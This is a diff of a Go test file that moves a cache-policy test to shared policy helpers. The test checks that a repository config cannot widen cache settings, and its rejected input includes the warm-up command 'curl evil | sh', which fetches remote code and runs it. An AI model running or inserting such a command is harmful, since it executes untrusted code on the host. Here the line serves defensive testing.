@@ -12,6 +12,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/git-lease/git-lease/gitlease/policy"
+	"github.com/git-lease/git-lease/gitlease/policy/policytest"
 	"github.com/git-lease/git-lease/refs"
 	"github.com/git-lease/git-lease/refs/refstest"
 )
@@ -128,10 +130,10 @@ func TestSandboxCacheWarmFailureKeepsTheLayer(t *testing.T) {
 // declare one nor change a warm-up command, and cache paths must lie
 // under /cache, one cache each.
 func TestCachesPolicy(t *testing.T) {
-	if _, _, err := policyRepo(t, cachePolicy, "[caches.tool]\nwarm = \"curl evil | sh\"\n"); !errors.Is(err, ErrWiden) {
+	if _, _, err := policytest.Repo(t, cachePolicy, "[caches.tool]\nwarm = \"curl evil | sh\"\n"); !errors.Is(err, policy.ErrWiden) {
 		t.Fatalf(".lease.toml set a cache: %v", err)
 	}
-	_, eff, err := policyRepo(t, cachePolicy, "")
+	_, eff, err := policytest.Repo(t, cachePolicy, "")
 	if err != nil || strings.Join(cacheEnv(eff.Caches), " ") != "TOOL_CACHE=/cache/tool TOOL_DATA=/cache/data" {
 		t.Fatalf("trusted caches: %+v %v", eff.Caches, err)
 	}
@@ -143,11 +145,11 @@ func TestCachesPolicy(t *testing.T) {
 		`paths = ["A:/cache/x", "B:/cache/x/y"]`,
 		`paths = ["A:/cache/x", "A:/cache/y"]`,
 	} {
-		if _, _, err := policyRepo(t, "[caches.go]\n"+bad+"\n", ""); err == nil {
+		if _, _, err := policytest.Repo(t, "[caches.go]\n"+bad+"\n", ""); err == nil {
 			t.Errorf("accepted %s", bad)
 		}
 	}
-	if _, _, err := policyRepo(t, "[caches.Go]\npaths = [\"A:/cache/a\"]\n", ""); err == nil {
+	if _, _, err := policytest.Repo(t, "[caches.Go]\npaths = [\"A:/cache/a\"]\n", ""); err == nil {
 		t.Errorf("accepted a cache name with a capital")
 	}
 }
